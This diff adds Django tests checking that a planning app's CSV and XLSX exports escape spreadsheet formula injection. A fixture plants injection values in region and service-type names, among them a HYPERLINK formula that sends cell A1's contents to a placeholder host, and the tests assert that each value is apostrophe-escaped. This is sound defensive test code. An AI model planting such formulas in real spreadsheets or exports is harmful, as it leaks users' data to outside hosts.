@@ -9,7 +9,8 @@ from django.db import transaction
 from django.urls import reverse
 from django.utils.http import urlencode
 
-from services.models import Vocabulary
+from directory.models import Orp
+from services.models import Term, Vocabulary
 from tests.factories import ServiceAreaFactory, ServiceFactory, term
 from tests.planning.conftest import MON, THU, outreach, premises, remote
 
@@ -364,6 +365,54 @@ def test_xlsx_has_the_three_tables(en_client, network):
     csv_rows = read_csv(en_client.get(reverse("planning:types_csv", args=[network.region.slug])))
     sheet_rows = [[str(value) for value in row] for row in workbook["Services by type"].values]
     assert sheet_rows == csv_rows
+
+
+@pytest.fixture
+def formulas(network):
+    """ORP and service type names a spreadsheet would run as formulas."""
+    Orp.objects.filter(pk=network.humpolec_orp.pk).update(name='=HYPERLINK("http://x/?"&A1,"K")')
+    Orp.objects.filter(pk=network.jihlava_orp.pk).update(name="-2+3")
+    Orp.objects.filter(pk=network.pelhrimov_orp.pk).update(name="\tx")
+    Term.objects.filter(vocabulary=Vocabulary.SERVICE_TYPE, code="contact_centre").update(
+        name_en="@SUM(A1)"
+    )
+    Term.objects.filter(vocabulary=Vocabulary.SERVICE_TYPE, code="outreach").update(name_en="+1")
+    return network
+
+
+ESCAPED_ORPS = ['\'=HYPERLINK("http://x/?"&A1,"K")', "'-2+3", "'\tx"]
+
+
+def test_csv_cells_cannot_run_as_formulas(en_client, formulas):
+    response = en_client.get(reverse("planning:types_csv", args=[formulas.region.slug]))
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    rows = read_csv(response)
+    assert rows[0][2:4] == ["'@SUM(A1)", "'+1"]
+    assert sorted(row[0] for row in rows[1:]) == sorted(ESCAPED_ORPS)
+    weekdays = read_csv(
+        en_client.get(reverse("planning:weekdays_csv", args=[formulas.region.slug]))
+    )
+    reach = read_csv(en_client.get(reverse("planning:reach_csv", args=[formulas.region.slug])))
+    for table_rows in (weekdays, reach):
+        assert sorted(row[0] for row in table_rows[1:]) == sorted(ESCAPED_ORPS)
+
+
+def test_xlsx_cells_cannot_run_as_formulas(en_client, formulas):
+    from openpyxl import load_workbook
+
+    response = en_client.get(reverse("planning:xlsx", args=[formulas.region.slug]))
+
+    workbook = load_workbook(io.BytesIO(response.content))
+    sheet = workbook["Services by type"]
+    [header, *rows] = sheet.values
+    assert header[2:4] == ("'@SUM(A1)", "'+1")
+    for title in workbook.sheetnames:
+        assert sorted(row[0] for row in list(workbook[title].values)[1:]) == sorted(ESCAPED_ORPS)
+        assert not [
+            cell for row in workbook[title].iter_rows() for cell in row if cell.data_type == "f"
+        ]
+    assert all(isinstance(count, int) for row in rows for count in row[2:])
 
 
 # ---- cache and query counts ---------------------------------------------------------------
